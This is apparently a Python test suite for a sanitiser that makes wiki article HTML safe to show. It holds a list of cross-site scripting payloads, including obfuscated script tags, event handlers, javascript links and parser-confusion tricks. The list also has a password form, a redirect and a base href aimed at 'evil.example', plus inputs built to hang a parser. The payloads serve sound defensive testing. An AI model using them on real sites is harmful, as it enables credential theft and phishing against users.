"""Nothing in a page of a wiki can run, send, cover the page of ours, or pass for a part of it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotation.reading import sanitise
from annotation.reading.pages import article_page, talk_page
from annotation.wikitext.extraction import in_child
from core.killable import GivenUp

LOCATION = {"family": "inconsistent", "paragraph_clean": "The bridge opened in 1903."}
PARAGRAPH = "<p>The bridge opened in 1903.<sup>[<i>inconsistent</i>]</sup></p>"
NASTY = {
    "script": "<script>steal()</script>",
    "script in an attribute": '<p title="<script>steal()</script>">x</p>',
    "script that opens in another": "<scr<script>ipt>steal()</script>",
    "handler": '<p onclick="steal()" onmouseover=steal()>x</p><img src=x onerror=steal()>',
    "handler without quotes": "<img/src=x/onerror=steal()>",
    "javascript link": '<a href="javascript:steal()">x</a><a href=" JaVaScRiPt&#58;steal()">y</a>',
    "data link": '<a href="data:text/html,<script>steal()</script>">x</a>',
    "vbscript link": '<a href="vbscript:x">x</a>',
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
    "our classes": '<div class="toast primary foot dialog ev-tagged-not">x</div>',
    "our ids": '<h2 id="f-confidence">x</h2><form id="desk"><input name="csrfmiddlewaretoken"></form>',
    "form": '<form action="https://evil.example/"><input name=password><button>Go</button><textarea>x</textarea></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "svg": '<svg onload="steal()"><script>steal()</script><a href="javascript:steal()"><text>x</text></a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    "comment": "<!--><img src=x onerror=steal()>-->",
    "frame": '<iframe srcdoc="<script>steal()</script>"></iframe><object data=x></object><embed src=x>',
    "htmx": '<div hx-get="/harvests/" hx-trigger="load">x</div><p data-hx-post="/x">y</p>',
    "template": "<template><script>steal()</script></template>",
    "end of our elements": "</div></section></main></body></html><script>steal()</script>",
    "select": "<select><template><script>steal()</script></template></select>",
    "tag without end": '<p title="<img src=x onerror=steal()>',
    "dialog": "<dialog open>x</dialog><details open ontoggle=steal()>x</details>",
    "null": "<scr\0ipt>steal()</scr\0ipt>",
    "address with entities": '<a href="&#106;avascript:steal()">x</a>',
}


class Strict(HTMLParser):
    """Reads HTML and fails on anything that is not on the list."""

    def __init__(self, html: str):
        super().__init__()
        self.texts: list[str] = []
        self.ids: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        assert tag in sanitise.TAGS
        for name, value in attributes:
            assert name in {"class", "id", "href", "target", "rel", "dir", "lang", "title", "colspan", "rowspan",
                            "scope", "start", "value", "tabindex", "role", "aria-label"}  # fmt: skip
            if name == "class":
                assert set(value.split()) <= sanitise.CLASSES
            if name == "id":
                assert value.startswith(sanitise.ID_PREFIX)
                self.ids.append(value)
            if name == "href":
                assert value.startswith(("https://", "http://"))
        if tag == "a":
            assert dict(attributes)["rel"] == "noopener"
            assert dict(attributes)["target"] == "_blank"

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def shown(source: str) -> dict:
    page = article_page(source, page_url="https://wiki.example/wiki/Bridge", prefix="article", location=LOCATION)
    Strict(page["html"])
    return page


@pytest.mark.parametrize("what", NASTY)
def test_it_is_taken_out_and_the_article_stays(what):
    for source in (NASTY[what] + PARAGRAPH, PARAGRAPH + NASTY[what], f"<div>{NASTY[what]}{PARAGRAPH}</div>"):
        page = shown(source)
        assert "steal()" not in "".join(Strict(page["html"]).texts) or what in ("null",)
        if what != "tag without end" or source.startswith("<p>The"):
            assert page["tag_found"], page["html"]
    talk = talk_page(NASTY[what] + PARAGRAPH, page_url="", prefix="talk", said="")
    Strict(talk["html"])


def test_the_sanitiser_alone_holds_too():
    """Were the arrangement wrong, this still stands between a wiki and the page."""
    for source in NASTY.values():
        Strict(sanitise.safe(source))
        Strict(sanitise.safe(PARAGRAPH + source))


PIECES = [*NASTY.values(), "<table>", "</table>", "<td>", "<tr>", "<b>", "</p>", "<!--", "-->", '"', "'", "<", ">", "&lt;",
          "<h2>", "<a href='/wiki/X'>", "<ul><li>", "\x00", "é", " class=ev-tagged ", "<p id=x class='ambox'>"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_no_mixture_gets_anything_through(pieces):
    shown("".join(pieces))


def test_links_lead_outside():
    page = shown('<p><a href="/wiki/Foo">a</a> <a href="//other.example/x">b</a> <a href="./Bar">c</a></p>')
    for address in ("https://wiki.example/wiki/Foo", "https://other.example/x", "https://wiki.example/wiki/Bar"):
        assert f'href="{address}"' in page["html"]


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 100_000 + PARAGRAPH,
        ("<div><b><i>" * 30_000) + PARAGRAPH,
        PARAGRAPH + "<" * 500_000,
        PARAGRAPH + "<a " * 100_000,
        PARAGRAPH + '<a "' * 100_000,
        "<ul><li>" * 20_000 + PARAGRAPH,
        PARAGRAPH + "<!--" * 100_000,
        "<table><tr><td>" * 5_000 + PARAGRAPH,
    ],
    ids=["deep", "deep formats", "angles", "tags without end", "quotes", "deep lists", "comments", "deep tables"],
)
def test_a_page_made_to_hang_a_parser_is_shown_all_the_same(source):
    page = in_child("article_page", source=source, page_url="", prefix="article", location=LOCATION)
    Strict(page["html"])
    assert page["tag_found"]


def test_formats_that_nobody_closed_are_not_copied_into_every_paragraph():
    """As a browser does: 1,000 of them before 10,000 paragraphs would make ten million elements."""
    source = "<p>" + "".join(f'<i lang="l{n}">' for n in range(1_000)) + "</p>" + "<p>x</p>" * 10_000
    assert len(shown(source + PARAGRAPH)["html"]) < 2 * len(source)


def test_a_page_that_takes_too_long_is_given_up_on():
    with pytest.raises(GivenUp, match="longer than"):
        in_child("article_page", source="<p>x</p>" * 500_000, page_url="", prefix="a", seconds=0.2)


def test_5_megabytes_are_cut_around_the_tagged_paragraph():
    filler = "<p>" + "Nothing of this belongs to the bridge. " * 20 + "</p>\n"
    count = 5_000_000 // len(filler)
    page = shown(f'<div class="mw-parser-output">{filler * (count // 2)}{PARAGRAPH}{filler * (count // 2)}</div>')
    assert page["tag_found"]
    assert len(page["html"]) < 1_100_000
    assert "too long" in page["notes"][0]
    text = "".join(Strict(page["html"]).texts)
    assert "The beginning of the page is not shown" in text
    assert "The rest of the page is not shown" in text


def test_one_endless_paragraph_is_cut():
    page = shown("<p>The bridge opened in 1903. " + "and closed " * 500_000 + "</p>")
    assert len(page["html"]) < 200_000


def test_a_table_of_20000_cells_is_shown_in_part_with_the_tagged_row():
    rows = [f"<tr><td>Ship {n}</td>" + "<td>1,000 t</td>" * 9 + "</tr>" for n in range(2_000)]
    rows[1_500] = "<tr><td>Petrel</td><td>sank in 1903<sup>[<i>inconsistent</i>]</sup></td></tr>"
    source = f"<table class=wikitable><caption>Ships</caption><tr><th>Ship</th></tr>{''.join(rows)}</table>"
    location = {**LOCATION, "paragraph_clean": "Petrel\tsank in 1903", "placement": "table"}
    page = article_page(source, page_url="", prefix="article", location=location)
    Strict(page["html"])
    assert page["tag_found"]
    assert page["html"].count("<td") < 1_500
    for kept in ("Ship 0<", "Petrel", "Ship 1499<", "Ship 1501<", "rows are not shown here", "<caption>Ships"):
        assert kept in page["html"]
    assert "Ship 900<" not in page["html"]
